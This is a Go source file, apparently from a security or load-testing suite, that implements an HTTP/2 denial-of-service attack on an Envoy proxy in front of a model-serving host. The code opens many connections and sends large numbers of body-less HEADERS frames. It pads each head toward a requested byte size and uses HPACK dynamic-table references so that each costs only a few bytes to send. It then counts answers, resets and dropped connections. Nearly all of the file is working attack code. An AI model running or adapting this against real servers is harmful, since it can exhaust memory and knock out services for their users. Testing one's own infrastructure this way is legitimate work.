//go:build attacks

package attacks

import (
	"bytes"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// heads are HTTP/2 connections with many streams, of which none has a body yet. The
// head of each is long, but for the first one of a connection HPACK has it in a few
// bytes: it refers to the dynamic table (RFC 7541 section 2.3.2).
type heads struct {
	connections, streams int
	bytes                int // of a head
	path, token          string
}

// padBytes is the length of the value that a head repeats. It fits into the table of
// 4,096 bytes beside a token.
const padBytes = 2800

// crowd is an attack under way.
type crowd struct {
	conns    []net.Conn
	sent     atomic.Int64 // requests, or what there is of them
	refused  atomic.Int64 // that were answered
	reset    atomic.Int64
	failures atomic.Int64 // connections that were closed
}

func (c *crowd) String() string {
	return fmt.Sprintf("%d requests, %d answered, %d reset, %d connections closed by Envoy",
		c.sent.Load(), c.refused.Load(), c.reset.Load(), c.failures.Load())
}

func (c *crowd) leave() {
	for _, conn := range c.conns {
		if conn != nil {
			conn.Close()
		}
	}
}

// send sends all heads, and returns when Envoy has read them.
func (h heads) send(addr string) *crowd {
	c := &crowd{conns: make([]net.Conn, h.connections)}
	var all sync.WaitGroup
	for i := range h.connections {
		all.Go(func() {
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				c.failures.Add(1)
				return
			}
			c.conns[i] = conn
			if !h.sendOn(conn, c) {
				c.failures.Add(1)
			}
		})
	}
	all.Wait()
	return c
}

// sendOn sends the heads of one connection and a PING, whose acknowledgement comes
// after them.
func (h heads) sendOn(conn net.Conn, c *crowd) bool {
	var mu sync.Mutex
	framer := http2.NewFramer(conn, conn)
	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	read := make(chan bool, 1)
	go func() { read <- c.readFrames(framer, &mu) }()
	mu.Lock()
	_, err := conn.Write([]byte(http2.ClientPreface))
	if err == nil {
		err = framer.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	}
	mu.Unlock()
	var block bytes.Buffer
	coder := hpack.NewEncoder(&block)
	for i := 0; i < h.streams && err == nil; i++ {
		block.Reset()
		for _, pair := range h.pairs() {
			coder.WriteField(hpack.HeaderField{Name: pair[0], Value: pair[1]})
		}
		mu.Lock()
		err = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: block.Bytes(), EndHeaders: true})
		mu.Unlock()
		c.sent.Add(1)
	}
	if err == nil {
		mu.Lock()
		err = framer.WritePing(false, [8]byte{'d', 'o', 'n', 'e'})
		mu.Unlock()
	}
	select {
	case ok := <-read:
		return err == nil && ok
	case <-time.After(2 * time.Minute):
		return false
	}
}

func (h heads) pairs() [][2]string {
	pairs := [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", h.path}, {":authority", "models.example.com"},
		{"content-type", "application/json"},
	}
	if h.token != "" {
		pairs = append(pairs, [2]string{"authorization", "Bearer " + h.token})
	}
	pad := strings.Repeat("x", padBytes)
	for range h.bytes / padBytes {
		pairs = append(pairs, [2]string{"x-pad", pad})
	}
	return pairs
}

// readFrames reads until the connection ends. It reports whether the PING was
// acknowledged, at once when it is.
func (c *crowd) readFrames(framer *http2.Framer, mu *sync.Mutex) bool {
	for {
		frame, err := framer.ReadFrame()
		if err != nil {
			return false
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				mu.Lock()
				framer.WriteSettingsAck()
				mu.Unlock()
			}
		case *http2.MetaHeadersFrame:
			c.refused.Add(1)
		case *http2.RSTStreamFrame:
			c.reset.Add(1)
		case *http2.GoAwayFrame:
			return false
		case *http2.PingFrame:
			if f.IsAck() {
				go c.readFrames(framer, mu)
				return true
			}
		}
	}
}
